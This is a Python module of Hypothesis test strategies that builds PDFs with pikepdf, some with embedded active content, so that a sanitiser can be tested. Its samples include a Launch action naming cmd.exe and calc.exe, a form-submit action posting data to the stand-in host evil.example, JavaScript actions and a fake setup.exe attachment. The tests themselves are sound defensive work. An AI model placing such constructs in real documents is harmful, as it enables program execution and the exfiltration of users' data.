"""Hypothesis strategies for real PDFs written by pikepdf: pages, sizes, active content, encryption.

Each example is a :class:`GeneratedPdf`: the bytes and the :class:`PdfSpec` they were built from, so
a test knows what to expect (how many pages, whether a password is needed, what active content
must be gone from a sanitised copy)::

    from careshare.testing.strategies.pdf import pdfs

    @given(pdfs())
    def test_my_handler(generated): ...
"""

from __future__ import annotations

import io
import warnings
from typing import TYPE_CHECKING, Any

import attrs
import pikepdf
from hypothesis import strategies as st
from pikepdf import Array, Dictionary, Name, String

if TYPE_CHECKING:
    from collections.abc import Sequence

__all__ = [
    "ACTIVE_CONTENT_PLACES",
    "EncryptionSpec",
    "GeneratedPdf",
    "PdfSpec",
    "build_pdf",
    "damaged_pdfs",
    "encryptions",
    "pdf_specs",
    "pdfs",
]

#: Where a generated PDF can hide active content; each names what it builds.
ACTIVE_CONTENT_PLACES = (
    "javascript-names",  # document-level scripts: the /Root/Names/JavaScript name tree
    "javascript-open-action",  # /OpenAction of type JavaScript
    "javascript-catalog-aa",  # /Root/AA (document will close, will print, ...)
    "javascript-page-aa",  # page open/close actions
    "javascript-link",  # a link annotation whose /A runs a script
    "javascript-next-chain",  # a harmless GoTo whose /Next runs a script
    "javascript-widget",  # a form field whose keystroke action is a script
    "javascript-outline",  # a bookmark that runs a script
    "launch",  # a link that launches a program
    "submit-form",  # a form button that posts the form to a server
    "goto-remote",  # a link into another PDF file
    "uri-javascript",  # a "javascript:" URI (not a web link)
    "embedded-file",  # the EmbeddedFiles name tree (pdf.attachments)
    "file-attachment-annotation",  # a paperclip annotation carrying a file
    "rich-media",  # a RichMedia annotation (Flash, video)
    "screen-rendition",  # a Screen annotation playing a rendition
    "xfa",  # an XFA form in the AcroForm
)
#: Web links are kept in sanitised copies: leaflets link to the clinic's pages.
WEB_LINK = "https://example.org/leaflet"


@attrs.frozen
class EncryptionSpec:
    """Standard security handler revision ``revision`` (2..6) with these passwords."""

    revision: int
    user: str
    owner: str

    @property
    def needs_password(self) -> bool:
        return self.user != ""

    def to_pikepdf(self) -> pikepdf.Encryption:
        # R2/R3 are RC4 only and cannot leave metadata clear; R4 may use AES; R5/R6 are AES-256.
        aes = self.revision >= 4
        return pikepdf.Encryption(user=self.user, owner=self.owner, R=self.revision, aes=aes, metadata=aes)


@attrs.frozen
class PdfSpec:
    """What a generated PDF holds."""

    page_sizes: tuple[tuple[int, int], ...] = ((595, 842),)
    rotations: tuple[int, ...] = (0,)
    active: frozenset[str] = frozenset()
    web_links: int = 0
    encryption: EncryptionSpec | None = None

    @property
    def pages(self) -> int:
        return len(self.page_sizes)

    @property
    def needs_password(self) -> bool:
        return self.encryption is not None and self.encryption.needs_password

    @property
    def has_active_content(self) -> bool:
        return bool(self.active)


@attrs.frozen
class GeneratedPdf:
    spec: PdfSpec
    data: bytes


def _js(source: str) -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(source))


def _annotation(subtype: str, rect: Sequence[int] = (20, 20, 120, 60), **entries: object) -> Dictionary:
    return Dictionary(Type=Name.Annot, Subtype=Name(subtype), Rect=Array(rect), **entries)


def _entry(holder: Dictionary, key: str, kind: type[Array] | type[Dictionary]) -> Any:
    """``holder[key]``, created empty first when missing."""
    if key not in holder:
        holder[key] = kind()
    return holder[key]


def _add_active_content(pdf: pikepdf.Pdf, place: str) -> None:
    page = pdf.pages[0]
    annotations = _entry(page.obj, "/Annots", Array)
    if place == "javascript-names":
        script = pdf.make_indirect(_js("app.alert('document script');"))
        names = _entry(pdf.Root, "/Names", Dictionary)
        names.JavaScript = Dictionary(Names=Array([String("init"), script]))
    elif place == "javascript-open-action":
        pdf.Root.OpenAction = pdf.make_indirect(_js("app.alert('opened');"))
    elif place == "javascript-catalog-aa":
        pdf.Root.AA = Dictionary(WC=_js("app.alert('closing');"), WP=_js("app.alert('printing');"))
    elif place == "javascript-page-aa":
        page.obj.AA = Dictionary(O=_js("app.alert('page open');"), C=_js("app.alert('page close');"))
    elif place == "javascript-link":
        annotations.append(pdf.make_indirect(_annotation("/Link", A=_js("app.launchURL('x');"))))
    elif place == "javascript-next-chain":
        goto = Dictionary(S=Name.GoTo, D=Array([page.obj, Name.Fit]), Next=Array([_js("app.alert('next');")]))
        annotations.append(pdf.make_indirect(_annotation("/Link", A=goto)))
    elif place == "javascript-widget":
        widget = pdf.make_indirect(
            _annotation(
                "/Widget",
                FT=Name.Tx,
                T=String("dose"),
                P=page.obj,
                AA=Dictionary(K=_js("event.rc = true;"), V=_js("event.rc = true;")),
            )
        )
        annotations.append(widget)
        pdf.Root.AcroForm = Dictionary(Fields=Array([widget]))
    elif place == "javascript-outline":
        outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, Count=1))
        item = pdf.make_indirect(Dictionary(Title=String("Start"), Parent=outlines, A=_js("app.alert('bookmark');")))
        outlines.First = outlines.Last = item
        pdf.Root.Outlines = outlines
    elif place == "launch":
        launch = Dictionary(S=Name.Launch, F=String("calc.exe"), Win=Dictionary(F=String("cmd.exe")))
        annotations.append(pdf.make_indirect(_annotation("/Link", A=launch)))
    elif place == "submit-form":
        submit = Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("https://evil.example/collect")))
        annotations.append(pdf.make_indirect(_annotation("/Link", A=submit)))
    elif place == "goto-remote":
        remote = Dictionary(S=Name.GoToR, F=String("other.pdf"), D=Array([0, Name.Fit]))
        annotations.append(pdf.make_indirect(_annotation("/Link", A=remote)))
    elif place == "uri-javascript":
        uri = Dictionary(S=Name.URI, URI=String("javascript:alert(1)"))
        annotations.append(pdf.make_indirect(_annotation("/Link", A=uri)))
    elif place == "embedded-file":
        pdf.attachments["notes.txt"] = pikepdf.AttachedFileSpec(pdf, b"embedded notes", mime_type="text/plain")
    elif place == "file-attachment-annotation":
        spec = pikepdf.AttachedFileSpec(pdf, b"MZ pretend program", filename="setup.exe")
        annotations.append(pdf.make_indirect(_annotation("/FileAttachment", FS=spec.obj, Name=Name.PushPin)))
    elif place == "rich-media":
        content = Dictionary(Assets=Dictionary(Names=Array([])), Configurations=Array([]))
        annotations.append(pdf.make_indirect(_annotation("/RichMedia", RichMediaContent=content)))
    elif place == "screen-rendition":
        rendition = Dictionary(S=Name.Rendition, OP=0, R=Dictionary(S=Name.MR, C=Dictionary(S=Name.MCD)))
        annotations.append(pdf.make_indirect(_annotation("/Screen", A=rendition)))
    elif place == "xfa":
        xfa = pdf.make_stream(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>app.alert(1)</script></xdp:xdp>')
        acroform = pdf.Root.get("/AcroForm")
        if acroform is None:
            pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=xfa)
        else:
            acroform.XFA = xfa
    else:  # pragma: no cover - a typo in a test
        raise ValueError(f"unknown active content place {place!r}")


def build_pdf(spec: PdfSpec) -> bytes:
    """The PDF ``spec`` describes, written by pikepdf (each page shows a filled square)."""
    pdf = pikepdf.new()
    for (width, height), rotation in zip(spec.page_sizes, spec.rotations, strict=True):
        pdf.add_blank_page(page_size=(width, height))
        page = pdf.pages[-1]
        side = max(1, min(width, height) // 2)
        page.obj.Contents = pdf.make_stream(f"0.2 0.4 0.8 rg 0 0 {side} {side} re f".encode())
        if rotation:
            page.obj.Rotate = rotation
    # Order matters only for readability of the file; sorted keeps examples reproducible.
    for place in sorted(spec.active):
        _add_active_content(pdf, place)
    for index in range(spec.web_links):
        link = Dictionary(S=Name.URI, URI=String(f"{WEB_LINK}?{index}"))
        _entry(pdf.pages[0].obj, "/Annots", Array).append(pdf.make_indirect(_annotation("/Link", A=link)))
    out = io.BytesIO()
    with warnings.catch_warnings():
        warnings.filterwarnings("ignore", "Encryption R=5 is deprecated", UserWarning)
        if spec.encryption is None:
            pdf.save(out)
        else:
            pdf.save(out, encryption=spec.encryption.to_pikepdf())
    return out.getvalue()


def encryptions(*, needs_password: bool | None = None) -> st.SearchStrategy[EncryptionSpec]:
    """Revisions 2..6 with a user password (needed to open) or an owner password only."""
    password = st.text(alphabet="abcdefghijklmnopqrstuvwxyz0123456789", min_size=1, max_size=12)
    user = {None: st.one_of(st.just(""), password), True: password, False: st.just("")}[needs_password]
    return st.builds(EncryptionSpec, revision=st.integers(2, 6), user=user, owner=password)


@st.composite
def pdf_specs(
    draw: st.DrawFn,
    *,
    max_pages: int = 5,
    active: bool | None = None,
    encrypted: bool | None = None,
    needs_password: bool | None = None,
) -> PdfSpec:
    """A :class:`PdfSpec`: ``active`` / ``encrypted`` True or False force that; None lets Hypothesis choose."""
    pages = draw(st.integers(1, max_pages))
    size = st.tuples(st.integers(72, 2000), st.integers(72, 2000))
    page_sizes = tuple(draw(st.lists(size, min_size=pages, max_size=pages)))
    rotations = tuple(draw(st.lists(st.sampled_from((0, 90, 180, 270)), min_size=pages, max_size=pages)))
    if active is False:
        places: frozenset[str] = frozenset()
    else:
        places = frozenset(draw(st.sets(st.sampled_from(ACTIVE_CONTENT_PLACES), min_size=1 if active else 0)))
    if encrypted is None:
        encrypted = draw(st.booleans())
    encryption = draw(encryptions(needs_password=needs_password)) if encrypted else None
    return PdfSpec(
        page_sizes=page_sizes,
        rotations=rotations,
        active=places,
        web_links=draw(st.integers(0, 2)),
        encryption=encryption,
    )


def pdfs(**options: bool | int | None) -> st.SearchStrategy[GeneratedPdf]:
    """Real PDFs with their spec; ``options`` are :func:`pdf_specs`' (``max_pages``, ``active``, ...)."""
    return pdf_specs(**options).map(lambda spec: GeneratedPdf(spec, build_pdf(spec)))  # type: ignore[arg-type]


@st.composite
def damaged_pdfs(draw: st.DrawFn) -> bytes:
    """A valid generated PDF, then damaged: truncated, bytes overwritten, or bytes inserted."""
    data = bytearray(draw(pdfs(max_pages=3)).data)
    for _ in range(draw(st.integers(1, 4))):
        how = draw(st.sampled_from(("truncate", "overwrite", "insert")))
        # A fraction of the length, not an offset: encrypted files vary in length from run to run (random IVs),
        # and Hypothesis needs the same draws to mean the same thing when it replays an example.
        at = draw(st.integers(0, 1 << 16)) * len(data) >> 16
        if how == "truncate":
            del data[max(at, 10) :]
        elif how == "overwrite":
            chunk = draw(st.binary(min_size=1, max_size=16))
            data[at : at + len(chunk)] = chunk
        else:
            data[at:at] = draw(st.binary(min_size=1, max_size=16))
    return bytes(data)
